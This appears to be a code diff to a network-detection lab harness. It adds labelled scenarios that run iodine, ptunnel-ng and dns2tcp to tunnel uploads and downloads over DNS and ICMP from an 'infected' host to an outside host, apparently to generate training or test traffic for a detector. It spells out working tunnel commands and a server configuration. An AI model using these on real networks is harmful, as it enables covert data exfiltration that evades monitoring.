@@ -87,6 +87,8 @@ const HOST_SWEEP_KINDS = ['nmap-tcp', 'nmap-udp', 'masscan-tcp', 'masscan-tcp', 
 const REFLECT_PROTOCOLS = ['dns', 'ntp', 'dns', 'snmp', 'ssdp', 'ntp'] as const;
 const REFLECT_PORTS = { dns: 53, ntp: 123, snmp: 161, ssdp: 1900 } as const;
 const DNS_TCP_PER_CONNECTION = [1, 40, 1, 8, 150, 1] as const;
+/** iodine's DNS record types (-T); 'auto' lets it pick (NULL where the path allows). */
+const IODINE_TYPES = ['auto', 'TXT', 'NULL', 'CNAME', 'A', 'MX'] as const;
 const LAB_24 = `${HOSTS.srv!.ip.replace(/\.\d+$/, '')}.0/24`;
 
 /**
@@ -151,6 +153,40 @@ const NEW_SCENARIOS: Record<string, { runs: number; build: Builder }> = {
   dnstcp: { runs: 6, build: (rng, f, v) => {
     const params = { seed: rng.int(1e9), perConnection: DNS_TCP_PER_CONNECTION[v % DNS_TCP_PER_CONNECTION.length]!, qtype: pick(rng, [16, 10, 5, 1, 28]), count: 60 + rng.int(160), gapMs: 5 + rng.int(40), labelLen: 30 + rng.int(34), labels: 1 + rng.int(3), domain: pick(rng, ['t.lab-tunnel.example', 'x.cdn-sync.example', 'a.b']) };
     const actors = [client('dnstcp', 'atk', params, 30_000)];
+    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
+    return { cls: 'dns_tunnel', attackers: [HOSTS.atk!.ip], actors, params };
+  } },
+  iodine: { runs: 6, build: (rng, f, v) => {
+    // The real tool (Debian's iodine): iodined answers DNS for its domain on the outside host, the infected host's
+    // iodine tunnels IP through DNS queries to it, and HTTP uploads and downloads run through the tunnel.
+    const params = { seed: rng.int(1e9), type: IODINE_TYPES[v % IODINE_TYPES.length]!, lazy: rng.next() < 0.7, rounds: 2 + rng.int(4), sizeMin: 10_000 + rng.int(40_000), sizeMax: 60_000 + rng.int(200_000), gapMs: 300 + rng.int(1500), download: rng.next() < 0.6, domain: pick(rng, ['t.lab-tunnel.example', 'x.cdn-sync.example', 'a.b']) };
+    const actors: Actor[] = [
+      { host: 'ext', cmd: 'iodined', args: ['-f', '-c', '-P', 'lab-tunnel', '-l', ext, '-p', '53', '10.53.0.1/27', params.domain], timeoutMs: 45_000 },
+      client('iodine', 'atk', { ...params, host: ext, tunnelServer: '10.53.0.1' }, 42_000, 800),
+    ];
+    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
+    return { cls: 'dns_tunnel', attackers: [HOSTS.atk!.ip], actors, params };
+  } },
+  ptunnel: { runs: 6, build: (rng, f) => {
+    // The real tool (Debian's ptunnel-ng): its proxy on the outside host, its client on the infected host forwarding a
+    // local port through ICMP echo; the outside host's kernel still answers every echo request as well.
+    const params = { seed: rng.int(1e9), rounds: 2 + rng.int(5), sizeMin: 5_000 + rng.int(40_000), sizeMax: 50_000 + rng.int(250_000), gapMs: 200 + rng.int(1500), download: rng.next() < 0.6 };
+    const actors: Actor[] = [
+      { host: 'ext', cmd: 'ptunnel-ng', args: ['-r127.0.0.1', '-R8000', '-v', '0'], timeoutMs: 40_000 },
+      client('forwarded', 'atk', { ...params, command: ['ptunnel-ng', `-p${ext}`, '-l2222', '-r127.0.0.1', '-R8000', '-v', '0'], localPort: 2222 }, 37_000, 800),
+    ];
+    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
+    return { cls: 'tunnel', attackers: [HOSTS.atk!.ip], actors, params };
+  } },
+  dns2tcp: { runs: 6, build: (rng, f, v) => {
+    // The real tool (Debian's dns2tcp): dns2tcpd answers DNS for its domain on the outside host and relays a resource
+    // to the outside host's web server; dns2tcpc on the infected host carries a local port over TXT or KEY queries.
+    const params = { seed: rng.int(1e9), qtype: v % 3 === 1 ? 'KEY' : 'TXT', rounds: 2 + rng.int(4), sizeMin: 5_000 + rng.int(20_000), sizeMax: 30_000 + rng.int(100_000), gapMs: 300 + rng.int(1500), download: rng.next() < 0.6, domain: pick(rng, ['t.lab-tunnel.example', 'x.cdn-sync.example', 'a.b']) };
+    const conf = [`listen = ${ext}`, 'port = 53', 'user = nobody', 'chroot = /tmp', `domain = ${params.domain}`, 'resources = web:127.0.0.1:8000'].join('\n');
+    const actors: Actor[] = [
+      { host: 'ext', cmd: 'sh', args: ['-c', `printf '%s\\n' "${conf}" > /tmp/netsensor-lab-dns2tcpd.conf && exec dns2tcpd -F -f /tmp/netsensor-lab-dns2tcpd.conf`], timeoutMs: 40_000 },
+      client('forwarded', 'atk', { ...params, command: ['dns2tcpc', '-z', params.domain, '-r', 'web', '-l', '2223', '-T', params.qtype, ext], localPort: 2223 }, 37_000, 800),
+    ];
     if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
     return { cls: 'dns_tunnel', attackers: [HOSTS.atk!.ip], actors, params };
   } },
